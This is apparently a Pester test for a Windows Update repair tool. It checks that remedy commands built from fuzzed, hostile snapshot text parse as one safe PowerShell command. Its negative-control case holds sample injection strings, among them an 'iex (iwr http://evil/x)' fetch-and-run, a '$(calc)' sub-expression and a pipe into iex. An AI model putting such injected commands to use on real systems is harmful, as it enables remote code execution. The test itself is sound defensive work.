# Admin-trial D1: no text from a snapshot or the registry can change what a remedy command does.
# tests/node/remedyCorpus.ts (fast-check) puts hostile text in every free string field of fault
# snapshots and writes every remedy the engine gives; here PowerShell's own parser reads each text.

BeforeAll {
    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
    $script:RemedyTexts = Join-Path $TestDrive 'remedies.jsonl'
    $corpusScript = Join-Path $script:RepoRoot 'out/node-tests/remedyCorpus.js'
    if (-not (Test-Path -LiteralPath $corpusScript)) {
        throw "$corpusScript is missing; build.ps1 -Task Test bundles it with the Node tests."
    }
    $script:CorpusSummary = & node $corpusScript 10000 $script:RemedyTexts | ConvertFrom-Json
    if ($LASTEXITCODE -ne 0) { throw "remedyCorpus.js failed with exit code $LASTEXITCODE" }
    $script:Remedies = @(Get-Content -LiteralPath $script:RemedyTexts -Encoding UTF8 | ConvertFrom-Json)

    function Get-WuRemedyValueProblem {
        # The value a parameter's AST holds, compared with the data; returns a problem text or nothing.
        param($Ast, $Expected, [string]$Name)
        if ($Expected -is [bool]) {
            return "-$Name should be a switch"
        }
        if ($Ast -is [System.Management.Automation.Language.ParenExpressionAst] -and $Expected -ceq '--%') {
            # The one value the engine parenthesizes: PowerShell reads a bare '--%' as stop-parsing.
            $Ast = $Ast.Pipeline.PipelineElements[0].Expression
        }
        if ($Expected -is [string]) {
            $isQuoted = $Ast -is [System.Management.Automation.Language.StringConstantExpressionAst] -and
            $Ast.StringConstantType -eq 'SingleQuoted'
            if (-not $isQuoted) { return "-$Name is not a single-quoted string ($($Ast.GetType().Name))" }
            if ($Ast.Value -cne $Expected) { return "-$Name is '$($Ast.Value)', the data says '$Expected'" }
            return
        }
        if ($Expected -is [System.Management.Automation.PSCustomObject]) {
            if ($Ast -isnot [System.Management.Automation.Language.HashtableAst]) { return "-$Name is not a table" }
            $names = @($Expected.PSObject.Properties.Name)
            if ($Ast.KeyValuePairs.Count -ne $names.Count) { return "-$Name has $($Ast.KeyValuePairs.Count) keys" }
            foreach ($pair in $Ast.KeyValuePairs) {
                $key = $pair.Item1.Value
                $inner = $pair.Item2.PipelineElements[0].Expression
                $problem = Get-WuRemedyValueProblem -Ast $inner -Expected $Expected.$key -Name "$Name.$key"
                if ($problem) { return $problem }
            }
            return
        }
        if ($Ast -isnot [System.Management.Automation.Language.ConstantExpressionAst] -or $Ast.Value -ne $Expected) {
            return "-$Name is not the number $Expected"
        }
    }

    function Get-WuRemedyProblem {
        # Everything wrong with one remedy text; nothing when it is one command meaning exactly its data.
        param($Remedy)
        $tokens = $null
        $errors = $null
        $ast = [System.Management.Automation.Language.Parser]::ParseInput($Remedy.command, [ref]$tokens, [ref]$errors)
        if ($errors.Count -gt 0) { return "parse error: $($errors[0].Message)" }
        if ($ast.BeginBlock -or $ast.ProcessBlock -or $ast.DynamicParamBlock) { return 'more than an end block' }
        if ($ast.EndBlock.Statements.Count -ne 1) { return "$($ast.EndBlock.Statements.Count) statements" }
        $pipeline = $ast.EndBlock.Statements[0]
        if ($pipeline -isnot [System.Management.Automation.Language.PipelineAst] -or $pipeline.PipelineElements.Count -ne 1) {
            return 'not a single command'
        }
        $command = $pipeline.PipelineElements[0]
        if ($command -isnot [System.Management.Automation.Language.CommandAst] -or $command.InvocationOperator -ne 'Unknown') {
            return 'not a plain command invocation'
        }
        if ($command.Redirections.Count -gt 0) { return 'a redirection' }
        if ($command.GetCommandName() -cne $Remedy.name) { return "runs '$($command.GetCommandName())', the data says '$($Remedy.name)'" }
        $dangerous = $ast.FindAll({
                param($node)
                $node -is [System.Management.Automation.Language.SubExpressionAst] -or
                $node -is [System.Management.Automation.Language.ExpandableStringExpressionAst] -or
                $node -is [System.Management.Automation.Language.ScriptBlockExpressionAst] -or
                $node -is [System.Management.Automation.Language.InvokeMemberExpressionAst] -or
                ($node -is [System.Management.Automation.Language.VariableExpressionAst] -and
                $node.VariablePath.UserPath -notin @('true', 'false'))
            }, $true)
        if (@($dangerous).Count -gt 0) { return "a sub-expression or variable: $(@($dangerous)[0].Extent.Text)" }
        $elements = @($command.CommandElements | Select-Object -Skip 1)
        $arguments = @($Remedy.arguments)
        if ($arguments.Count -gt 0) {
            if ($elements.Count -ne $arguments.Count) { return "$($elements.Count) arguments, the data has $($arguments.Count)" }
            for ($i = 0; $i -lt $arguments.Count; $i++) {
                $problem = Get-WuRemedyValueProblem -Ast $elements[$i] -Expected ([string]$arguments[$i]) -Name "argument $i"
                if ($problem) { return $problem }
            }
            return
        }
        $parameters = @($Remedy.parameters.PSObject.Properties)
        $i = 0
        foreach ($parameter in $parameters) {
            $element = $elements[$i]
            if ($element -isnot [System.Management.Automation.Language.CommandParameterAst] -or $element.ParameterName -cne $parameter.Name) {
                return "element $i is not -$($parameter.Name)"
            }
            $i++
            if ($parameter.Value -is [bool] -and $parameter.Value) {
                if ($null -ne $element.Argument) { return "-$($parameter.Name) carries an argument" }
                continue
            }
            if ($null -ne $element.Argument) {
                # -Name:'value' (the engine binds a value of exactly --% this way).
                $problem = Get-WuRemedyValueProblem -Ast $element.Argument -Expected $parameter.Value -Name $parameter.Name
                if ($problem) { return $problem }
                continue
            }
            $problem = Get-WuRemedyValueProblem -Ast $elements[$i] -Expected $parameter.Value -Name $parameter.Name
            if ($problem) { return $problem }
            $i++
        }
        if ($i -ne $elements.Count) { return "$($elements.Count - $i) element(s) beyond the data" }
    }
}

Describe 'Remedies are one safe command, whatever the snapshot holds (D1)' {
    It 'generated at least 10,000 valid snapshots with hostile text in every free string field' {
        $script:CorpusSummary.snapshots | Should -BeGreaterOrEqual 10000
        $script:CorpusSummary.valid | Should -Be $script:CorpusSummary.snapshots
        $script:CorpusSummary.freeFields | Should -BeGreaterThan 50
        $script:Remedies.Count | Should -BeGreaterThan 100
    }

    It 'gave remedies for every finding that has one in the catalogues this corpus covers' {
        $ids = $script:Remedies.id | Sort-Object -Unique
        foreach ($expected in 'WUT-CTL-100', 'WUT-CTL-101', 'WUT-ACL-100', 'WUT-ACL-010', 'WUT-CTL-003', 'WUT-CTL-023', 'WUT-CTL-033',
            'WUT-WTR-001', 'WUT-WTR-003', 'WUT-WTR-100', 'WUT-LOG-010', 'WUT-LOG-011', 'WUT-NET-100', 'WUT-NET-101', 'WUT-NET-002', 'WUT-NET-005',
            'WUT-NET-006', 'WUT-NET-007', 'WUT-NET-008', 'WUT-NET-010', 'WUT-NET-013', 'WUT-NET-020', 'WUT-NET-031') {
            $ids | Should -Contain $expected
        }
    }

    It 'gave remedies of every kind: cmdlets with switches, text, numbers and tables, and native programs' {
        $names = $script:Remedies.name | Sort-Object -Unique
        foreach ($expected in 'Set-WinTrustState', 'Repair-WuAutoUpdateAcl', 'Reset-WuCtlSyncTime', 'Rename-Item', 'Invoke-CimMethod',
            'Test-WuUpdateEndpoint', 'certutil.exe', 'gpresult.exe', 'Get-Acl', 'Set-Service', 'netsh.exe', 'w32tm.exe', 'Resolve-DnsName') {
            $names | Should -Contain $expected
        }
    }

    It 'parses every remedy text as exactly one command, named and valued exactly as its data' {
        $problems = foreach ($remedy in $script:Remedies) {
            $problem = Get-WuRemedyProblem -Remedy $remedy
            if ($problem) { "$($remedy.id): $problem <$($remedy.command)>" }
        }
        @($problems) | Should -BeNullOrEmpty
    }

    It 'finds the problems it looks for (the check can fail)' {
        $bad = @(
            [pscustomobject]@{ id = 'x'; name = 'Set-WinTrustState'; command = "Set-WinTrustState -Sid 'S-1'; iex (iwr http://evil/x); '' -Default"
                parameters = [pscustomobject]@{ Sid = 'S-1'; Default = $true }; arguments = @() }
            [pscustomobject]@{ id = 'x'; name = 'certutil.exe'; command = "certutil.exe '-syncWithWU' `"http://`$(calc)`""
                parameters = [pscustomobject]@{}; arguments = @('-syncWithWU', 'http://$(calc)') }
            [pscustomobject]@{ id = 'x'; name = 'Rename-Item'; command = "Rename-Item -LiteralPath 'a' -NewName 'b' -WhatIf:`$x"
                parameters = [pscustomobject]@{ LiteralPath = 'a'; NewName = 'b'; WhatIf = $true }; arguments = @() }
            [pscustomobject]@{ id = 'x'; name = 'Get-Acl'; command = "Get-Acl -Path 'a' | iex"
                parameters = [pscustomobject]@{ Path = 'a' }; arguments = @() }
            [pscustomobject]@{ id = 'x'; name = 'Get-Acl'; command = "Get-Acl -Path 'b'"
                parameters = [pscustomobject]@{ Path = 'a' }; arguments = @() }
        )
        foreach ($remedy in $bad) {
            Get-WuRemedyProblem -Remedy $remedy | Should -Not -BeNullOrEmpty -Because $remedy.command
        }
    }
}
